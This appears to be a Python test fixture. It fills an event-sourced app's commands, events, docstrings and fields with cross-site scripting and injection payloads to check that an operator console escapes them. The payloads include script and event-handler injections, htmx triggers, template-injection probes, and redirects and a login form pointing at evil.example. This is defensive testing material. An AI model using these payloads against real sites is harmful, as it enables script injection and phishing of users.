"""An app full of what somebody might send who wants to run scripts in an operator's browser."""

from collections.abc import Iterable
from datetime import timedelta
from itertools import product
from typing import Annotated, Any, Self

from refold import App, Command, Event, Later, NewEvent, Rejected, Searched, Singleton, State, Tag, later

WAYS_OUT = ("", '">', "'>", "`>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</svg>", "</pre>")
"""Of where a text may stand, so that what follows is markup."""
TRICKS = (
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<script>window.__xss=1</script>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<a href=javascript:window.__xss=1>click</a>",
    "<div hx-get=/evil hx-trigger=load></div>",
    "<div hx-on:htmx:load=window.__xss=1></div>",
    "<form action=https://evil.example><button>Log in</button></form>",
)
ATTRIBUTES = (
    '" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus x='",
    '" hx-get="/evil" hx-trigger="load" x="',
    '" style="background:url(https://evil.example/x)" x="',
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "{{ 7 * 1234567 }}",
    "{% for x in y %}",
    "${7*1234567}",
    "</SCRIPT><SCRIPT>window.__xss=1</SCRIPT>",
    "<scr<script>ipt>window.__xss=1</script>",
    "&lt;img src=x onerror=window.__xss=1&gt;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1",
    "<!--<img src='--><img src=x onerror=window.__xss=1>'>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.__xss=1 src=x>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:window.__xss=1></object>",
    "\u202e<img src=x onerror=window.__xss=1>",
    "../../../login?next=//evil.example",
    "a/b?c=d#e%2F&f=<b>",
    "\x1b[31mred\x07",
)
PAYLOADS = (*(way + trick for way, trick in product(WAYS_OUT, TRICKS)), *ATTRIBUTES)

Thing = Annotated[str, Tag("thing")]


class Noted(Event):
    """<img src=x onerror=window.__xss=1>"""

    thing: Thing
    text: Annotated[str, Searched()] = ""


class Reminded(Event):
    thing: Thing
    text: str


class Note(Command):
    """<script>window.__xss=1</script>"""

    thing: Thing
    text: str = "<img src=x onerror=window.__xss=1>"


class Remind(Command):
    thing: Thing
    text: str


class Refused(Rejected):
    """<img src=x onerror=window.__xss=1>"""


class Item(State):
    thing: Thing
    text: Annotated[str, Searched()] = ""
    notes: int = 0

    def evolve(self, event: Noted | Reminded) -> Self:
        return self.replace(text=event.text, notes=self.notes + 1)


class Doubt(State):
    thing: Thing
    text: str = ""

    def evolve(self, event: Noted) -> Self:
        if "svg" in event.text:
            raise ValueError(event.text)
        return self.replace(text=event.text)


class Latest(Singleton):
    text: str = ""

    def evolve(self, event: Noted) -> Self:
        return self.replace(text=event.text)


def note(command: Note, item: Item) -> Noted:
    if command.text.startswith("no"):
        raise Refused(f"<img src=x onerror=window.__xss=1>{command.text}")
    return Noted(command.thing, command.text)


def remind(command: Remind) -> Reminded:
    if "details" in command.text:
        raise Refused(command.text)
    return Reminded(command.thing, command.text)


def remembers(event: Noted) -> Iterable[Remind | Later]:
    if "input" in event.text:
        yield Remind(event.thing, event.text)
    if "details" in event.text:
        yield Remind(event.thing, event.text)  # is refused, so that it parks
    if "iframe" in event.text:
        yield later(Remind(event.thing, event.text), after=timedelta(days=1), name=f"remind {event.text}")


def hostile(store: Any) -> App:
    return App(
        store,
        name="<b>hostile</b>",
        events=Noted | Reminded,
        decisions=[note, remind],
        processes=[remembers],
        projections=[Item, Doubt, Latest],
        index=True,
    )


async def fill(app: App) -> None:
    """Put every payload into every field, and append some of a type and with tags that nobody declared."""
    for payload in PAYLOADS:
        own = f"local/Note/{payload}"  # as the console makes it
        await app.execute(Note(payload, payload), actor=payload, id=own, correlation_id=payload)
    tricks = PAYLOADS[:: len(PAYLOADS) // 20]
    await app.log.append(
        [
            NewEvent(each[:200], b'{"a": "<img src=x onerror=window.__xss=1>"}', (f"thing:{each}", each))
            for each in tricks
        ]
    )
    await app.settle(parked=True)
    await app.operations.rebuild("Item", hold=True)  # so that there are two versions to compare, and one to drop
